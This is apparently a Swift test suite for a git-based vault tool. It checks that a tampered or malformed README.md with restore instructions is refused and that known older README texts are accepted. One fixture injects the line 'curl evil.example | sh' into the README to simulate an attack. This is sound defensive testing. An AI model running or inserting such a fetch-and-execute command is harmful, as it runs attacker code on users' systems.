import Foundation
import GitStore
import TestSupport
import Testing

@testable import Vault

/// A README.md that tells people to run something else, when they restore by hand.
@Suite("Attacks: README.md") struct ReadmeAttackTests {
  @Test func `a README.md with other commands, or none, is refused, and so is what builds on it`() throws {
    let evil = NewObject(kind: .blob, bytes: Vault.readme.bytes + [UInt8]("    curl evil.example | sh\n".utf8))
    for (readme, isCovered) in [(evil, false), (nil, false), (evil, true)] {
      let scene = try AttackScene([.writer])
      let tip = try scene.tip(1)
      var rows = try scene.victim.repository.entries(ofTree: tip.tree).filter { $0 != .readme }
      if let readme { rows.append(TreeEntry(mode: .file, name: "README.md", object: readme.name)) }
      let tree = NewObject(kind: .tree, bytes: Tree.encode(rows))
      let commit = try scene.commit(after: tip, tree: tree.name, by: scene.identity(1))
      // It cannot be slipped in below a sound one either.
      let next = try scene.commit(after: try scene.parsed(commit), tree: tip.tree, by: scene.identity(1))
      let objects = [readme, tree].compactMap(\.self) + [commit] + (isCovered ? [next] : [])
      try scene.expectRefused(scene.branch(1), objects, .readme)
    }
  }

  @Test(arguments: [TreeMode.other(0o120000), .other(0o100755), .other(0o160000)])
  func `a README.md of another kind than a file is refused`(mode: TreeMode) throws {
    let scene = try AttackScene([.writer])
    let row = TreeEntry(mode: mode, name: "README.md", object: Vault.readme.name)
    let tree = NewObject(kind: .tree, bytes: Tree.encode([row]))
    let commit = try scene.commit(after: try scene.tip(1), tree: tree.name, by: scene.identity(1))
    try scene.expectRefused(scene.branch(1), [tree, commit], .tree)
  }

  @Test func `the page of the format lists every text`() throws {
    let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
      .deletingLastPathComponent().deletingLastPathComponent()
    let page = try String(contentsOf: root.appendingPathComponent("docs/format.md"), encoding: .utf8)
    for text in Restoring.texts { #expect(page.contains("`\(text.hex)`"), "\(text.hex)") }
  }

  @Test(arguments: [0, 1])
  func `the README.md of an older version of format 1 is one`(age: Int) throws {
    let scene = try AttackScene([.writer])
    let tip = try scene.tip(1)
    var readme = Restoring.text(format: 1)
    #expect(readme.name.hex == "a952f1e9ed9707f35440eab20045936625df83dc")
    if age == 1 {
      let text = try #require(
        String(decoding: readme.bytes, as: UTF8.self).replacingRange(
          from: "    git -C VAULT.git ls-tree --name-only", to: "    mkdir out",
          with: "    git -C VAULT.git show members:keys/1.age | age -d -i IDENTITY > vault.key\n"))
      readme = NewObject(kind: .blob, bytes: [UInt8](text.utf8))
      #expect(readme.name.hex == "54de64da64c565325f7254ce09717cedd770c2c8")
    }
    #expect(Restoring.texts(format: 1).contains(readme.name) && Restoring.texts(format: 2).contains(readme.name))
    #expect(!Restoring.texts(format: 1).contains(Restoring.text(format: 2).name))
    var tree = try scene.victim.graph.tree(tip)
    let (root, objects) = tree.encode(readme: readme.name)
    let commit = try scene.commit(after: tip, tree: root, by: scene.identity(1))
    let sent = [readme] + objects + [commit]
    #expect(try scene.offer([scene.branch(1): commit.name], sent).moved == [scene.branch(1): commit.name])
    try scene.expectSound()
  }
}

extension String {
  /// With what is from one text up to another replaced; nil if they are not there.
  fileprivate func replacingRange(from start: String, to end: String, with text: String) -> String? {
    guard let first = firstRange(of: start), let last = self[first.upperBound...].firstRange(of: end) else {
      return nil
    }
    return String(self[..<first.lowerBound]) + text + self[last.lowerBound...]
  }
}
